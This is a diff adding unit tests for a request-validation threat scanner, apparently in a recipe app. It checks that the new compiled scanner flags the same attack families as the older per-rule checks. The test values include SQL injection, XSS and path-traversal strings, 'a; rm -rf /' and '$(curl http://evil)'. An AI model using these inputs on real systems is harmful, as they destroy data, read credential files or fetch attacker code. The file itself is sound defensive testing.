@@ -0,0 +1,110 @@
+"""Unit tests for the compiled single-pass threat scanner behind request validation."""
+
+import re
+from unittest.mock import patch
+
+from src.security.threat_scanner import ThreatScanner
+from src.security.validation import (
+    COMMAND_INJECTION,
+    PATH_TRAVERSAL,
+    SQL_INJECTION,
+    THREAT_SCANNER,
+    XSS,
+    CommandInjectionValidator,
+    InputValidator,
+    PathTraversalValidator,
+    SecurityValidator,
+    SQLInjectionPatterns,
+    XSSPatterns,
+)
+
+VALUES = [
+    "Grilled chicken with quinoa and roasted vegetables",
+    "I'd like more vegetarian recipes, please",
+    "user@example.com",
+    "+14155550123",
+    "Mozilla/5.0 (X11; Linux x86_64)",
+    "'; DROP TABLE users; --",
+    "1' OR '1'='1",
+    "admin'/*",
+    "x UNION 1 = 1",
+    "nvarchar(4000)",
+    "<script>alert('xss')</script>",
+    "javascript:alert(1)",
+    "<svg onload=alert('xss')>",
+    "<IFRAME SRC='x'></IFRAME>",
+    "../../../etc/passwd",
+    "..\\..\\windows\\system32\\config",
+    "~/.ssh/id_rsa",
+    "a; rm -rf /",
+    "$(curl http://evil)",
+    "Fish tacos with SELECT avocados",
+    "line\nbreak\tand tab",
+    # Lowercasing and IGNORECASE disagree outside ASCII
+    "ſelect * from users",
+    "crème brûlée İchar(12)",
+    "<ſcript>alert(1)</ſcript>",
+    "..\\ſys\\",
+    "Café au lait with ſh",
+    "日本語のメニュー; rm -rf /",
+]
+
+
+def _legacy_families(value: str):
+    """Per-rule checks as validation.py ran them before the compiled scanner."""
+    families = set()
+    if any(re.search(pattern, value.upper(), re.IGNORECASE) for pattern in SQLInjectionPatterns.PATTERNS):
+        families.add(SQL_INJECTION)
+    if any(re.search(pattern, value, re.IGNORECASE) for pattern in XSSPatterns.PATTERNS):
+        families.add(XSS)
+    if any(re.search(pattern, value.lower(), re.IGNORECASE) for pattern in PathTraversalValidator.DANGEROUS_PATTERNS):
+        families.add(PATH_TRAVERSAL)
+    if (any(char in value for char in CommandInjectionValidator.DANGEROUS_CHARS)
+            or any(cmd in value.lower() for cmd in CommandInjectionValidator.DANGEROUS_COMMANDS)):
+        families.add(COMMAND_INJECTION)
+    return families
+
+
+def test_single_scan_reports_same_families_as_per_rule_checks():
+    for value in VALUES:
+        assert THREAT_SCANNER.scan(value) == _legacy_families(value), value
+
+    assert SQLInjectionPatterns.is_suspicious("1 OR 1=1") is True
+    assert XSSPatterns.is_suspicious("Grilled chicken") is False
+    assert PathTraversalValidator.is_safe_path("uploads/image.jpg") is True
+    assert PathTraversalValidator.is_safe_path("%2e%2e/%2e%2e/etc/passwd") is False
+    assert CommandInjectionValidator.is_safe_command_input("a; rm -rf /") is False
+
+
+def test_non_ascii_values_keep_per_rule_matching():
+    assert THREAT_SCANNER.scan("ſelect * from users") == {SQL_INJECTION}
+    assert SQL_INJECTION not in THREAT_SCANNER.scan("crème brûlée İchar(12)")
+    assert THREAT_SCANNER.is_suspicious("ſelect 1", SQL_INJECTION) is True
+    assert THREAT_SCANNER.scan("Crème brûlée with berries") == frozenset()
+
+
+def test_first_only_and_family_subsets_stop_early():
+    scanner = ThreatScanner({"digits": [r"\d+"], "shout": [r"\bHELLO\b"], "tag": ["<B>"]})
+
+    assert scanner.scan("hello <b>42</b>") == {"digits", "shout", "tag"}
+    assert len(scanner.scan("hello <b>42</b>", first_only=True)) == 1
+    assert scanner.scan("hello <b>42</b>", families=("digits",)) == {"digits"}
+    assert scanner.scan("nothing here") == frozenset()
+    # Escapes keep their case: \D is not folded to \d
+    assert ThreatScanner({"non_digit": [r"^\D+$"]}).scan("ABC") == {"non_digit"}
+
+
+def test_api_request_validation_scans_each_value_once():
+    validator = SecurityValidator()
+    body = {"meal": "Salmon bowl", "note": "<script>alert(1)</script>", "query": "1 OR 1=1"}
+
+    with patch.object(THREAT_SCANNER, "scan", wraps=THREAT_SCANNER.scan) as scan:
+        result = validator.validate_api_request(body)
+
+    assert scan.call_count == len(body)
+    assert result.is_valid is False
+    assert "Field 'note' contains suspicious script patterns" in result.errors
+    assert "Field 'query' contains suspicious SQL patterns" in result.errors
+    assert "note: Text contains suspicious command patterns" in result.errors
+    assert result.sanitized_value == {"meal": "Salmon bowl"}
+    assert InputValidator().validate_text_input("Oatmeal with berries").is_valid is True